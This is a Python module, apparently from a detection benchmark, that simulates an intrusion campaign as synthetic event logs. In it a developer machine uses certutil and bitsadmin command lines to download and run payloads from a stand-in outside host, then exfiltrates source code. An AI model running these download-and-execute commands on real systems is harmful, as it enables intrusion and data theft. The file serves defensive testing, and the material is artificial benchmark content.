"""Tools of the system fetch and run what an attacker wants."""

from __future__ import annotations

import random

from benchmarks.disruption.campaigns.campaign import Campaign, Step
from benchmarks.disruption.event import MINUTE, SECOND, Event
from benchmarks.disruption.firm import Firm, outside
from benchmarks.disruption.life.hosts import CMD
from benchmarks.disruption.writing import conn, connected, started

CERTUTIL = "C:\\Windows\\System32\\certutil.exe"
BITS = "C:\\Windows\\System32\\bitsadmin.exe"


def campaign(firm: Firm, chance: random.Random, begin: int) -> Campaign:
    """Fetched, run, a second part, source code sent."""
    who = chance.choice(firm.of_role("developer"))
    home = outside(chance)
    pid = chance.randrange(30_000, 40_000)
    tool = "C:\\ProgramData\\ssh\\upd.exe"

    def ran(time: int, image: str, line: str, parent: str, number: int) -> Event:
        return started(time, who.host, who.account, image, line, parent, number)

    def talk(time: int, image: str, number: int, sent: int = 2_000) -> list[Event]:
        return [
            connected(time, who, image, number, home, 80),
            conn(time + 10, who.address, home, 80, sent, 300_000),
        ]

    def fetched(time: int) -> list[Event]:
        line = f"certutil -urlcache -split -f http://{home}/t.txt {tool}"
        return [ran(time, CERTUTIL, line, CMD, pid), *talk(time + SECOND, CERTUTIL, pid)]

    def run(time: int) -> list[Event]:
        return [ran(time, tool, tool, CMD, pid + 1), *talk(time + SECOND, tool, pid + 1)]

    def second(time: int) -> list[Event]:
        line = f"bitsadmin /transfer j /priority high http://{home}/m.exe C:\\ProgramData\\m.exe"
        return [ran(time, BITS, line, tool, pid + 2), *talk(time + SECOND, tool, pid + 1)]

    return Campaign(
        "tool",
        "source code is out",
        begin,
        (
            Step("fetched", 0, fetched),
            Step("run", 2 * MINUTE, run, needs=("fetched",)),
            Step("second part", 7 * MINUTE, second, needs=("run",), waits=False),
            Step("look", 9 * MINUTE, lambda time: talk(time, tool, pid + 1), needs=("run",)),
            Step(
                "data out",
                14 * MINUTE,
                lambda time: talk(time, tool, pid + 1, 300_000_000),
                needs=("look",),
            ),
        ),
    )
